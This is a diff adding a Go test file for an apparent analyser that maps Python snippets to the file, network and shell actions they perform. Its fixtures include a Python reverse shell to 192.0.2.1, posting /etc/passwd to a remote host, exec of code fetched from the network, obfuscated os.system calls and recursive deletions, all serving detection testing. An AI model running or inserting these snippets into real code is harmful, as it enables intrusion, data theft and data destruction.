@@ -1,0 +1,46 @@
+package lang
+
+import "testing"
+
+func TestPython(t *testing.T) {
+	runExamples(t, "python", []example{
+		{"a tree is removed", `import shutil; shutil.rmtree("build")`, []string{"rm -r build"}},
+		{"under another name", "import shutil as s\nfrom os import remove as r, unlink\ns.rmtree('a'); r('b'); unlink('c')", []string{"rm -r a", "rm b", "rm c"}},
+		{"imported with a star", "from shutil import *\nrmtree('a')", []string{"rm -r a"}},
+		{"through __import__", `__import__("os").system("id")`, []string{"shell| id"}},
+		{"through getattr", `import os; getattr(os, "sys" + "tem")("id")`, []string{"shell| id"}},
+		{"through a variable", `f = __import__; o = f("os"); o.remove("x")`, []string{"rm x"}},
+		{"constants are followed", "d = '/srv'\nd += '/old'\nimport shutil\nshutil.rmtree(d)", []string{"rm -r /srv/old"}},
+		{"f-string", `p = "/srv"; shutil.rmtree(f"{p}/a/{name!r}")`, []string{"rm -r /srv/a/<name>"}},
+		{"percent and format", `os.remove("%s/%s" % ("a", "b")); os.remove("{}/{x}".format("c", x="d"))`, []string{"rm a/b", "rm c/d"}},
+		{"unknown argument is a hole", `shutil.rmtree(sys.argv[1])`, []string{"rm -r <sys.argv.1>"}},
+		{"parameter is a hole", "p = 'a'\ndef f(p):\n    shutil.rmtree(p)", []string{"rm -r <p>"}},
+		{"either of two", `shutil.rmtree("a" if x else "b")`, []string{"rm -r a", "rm -r b"}},
+		{"home", `import os; os.remove(os.path.expanduser("~/a")); os.remove(os.environ["HOME"] + "/b"); os.remove(os.getenv("HOME"))`, []string{"rm <home>/a", "rm <home>/b", "rm <home>"}},
+		{"variable of the environment", `os.remove(os.getenv("OUT") + "/x")`, []string{"rm <$OUT>/x"}},
+		{"a tilde is no home", `shutil.rmtree("~")`, []string{"rm -r ~"}},
+		{"pathlib", `from pathlib import Path; (Path.home() / "a").unlink(); Path("b", "c").rmdir(); Path("d").write_text("x")`, []string{"rm <home>/a", "rmdir b/c", "tee d"}},
+		{"files below a directory", `from pathlib import Path; for p in Path("a").glob("*.o"): p.unlink()`, []string{"rm a/*.o(glob)"}},
+		{"loop over a list", "for d in ['/a', '/b']:\n  shutil.rmtree(d)", []string{"rm -r /a", "rm -r /b"}},
+		{"comprehension", `[os.unlink(f) for f in glob.glob("/t/*.log")]`, []string{"rm /t/*.log(glob)"}},
+		{"walk", "for root, dirs, files in os.walk('/x'):\n  for f in files:\n    os.remove(os.path.join(root, f))", []string{"rm /x/*(glob)"}},
+		{"open to write and to read", "with open('o', 'w') as f: f.write('x')\nopen('p', mode='a')\nopen('/etc/hosts').read()", []string{"tee o", "tee -a p", "cat /etc/hosts"}},
+		{"move, copy, modes", `os.rename("a", "b"); shutil.copy("c", "d"); os.chmod("e", 0o777); os.chmod("f", 511)`, []string{"mv a b", "cp c d", "chmod 777 e", "chmod 777 f"}},
+		{"subprocess", `subprocess.run(["rm", "-rf", d]); subprocess.run("ls | wc", shell=True); subprocess.Popen(args=["id"])`, []string{"rm -rf <d>", "shell| ls | wc", "id"}},
+		{"exec of another program", `os.execvp("rm", ["rm", "-r", "x"]); pty.spawn("/bin/ls")`, []string{"rm -r x", "/bin/ls"}},
+		{"decoded text", `exec(base64.b64decode("cHJpbnQoMSk=")); exec(bytes.fromhex("7072").decode()); exec(codecs.decode("cevag", "rot13"))`, []string{"python| print(1)", "python| pr", "python| print"}},
+		{"assembled text", `os.system(chr(105) + "".join(["d", ""])); os.system("di"[::-1]); os.system("".join(map(chr, [105, 100])))`, []string{"shell| id", "shell| id", "shell| id"}},
+		{"code from the network", `exec(requests.get("http://h/x").text)`, []string{"run:python: python <net>", "curl http://h/x"}},
+		{"shell from the network", `os.system(urllib.request.urlopen(u).read().decode())`, []string{"run: shell <net>", "curl <u>"}},
+		{"a file is sent", `requests.post("http://h", data=open("/etc/passwd").read())`, []string{"curl -d @/etc/passwd http://h", "cat /etc/passwd"}},
+		{"a request deletes", `requests.delete("https://h/x/1")`, []string{"curl -X DELETE https://h/x/1"}},
+		{"reverse shell", `import socket,os,pty;s=socket.socket();s.connect(("192.0.2.1",99));os.dup2(s.fileno(),0);pty.spawn("/bin/bash")`, []string{"listen: shell over a connection 192.0.2.1", "/bin/bash"}},
+		{"queries", `cur.execute("DROP TABLE t")`, []string{"sql| DROP TABLE t"}},
+		{"a signal", `os.kill(pid, 9); os.kill(pid, 0)`, []string{"kill <pid>"}},
+		{"strings are data", `print("shutil.rmtree('/')"); x = """os.system("rm")"""`, nil},
+		{"comments are data", "# os.system('id')\npass", nil},
+		{"definitions are no calls", "def open(p, mode): pass\nclass remove(object): pass", nil},
+		{"methods of others", `re.compile("x"); db.remove("x"); q.system("y"); s.unlink()`, nil},
+		{"a connection and a build", `s = socket.socket(); s.connect(("h", 1)); subprocess.run(["bash", "-c", "make"])`, []string{"bash -c make"}},
+	})
+}
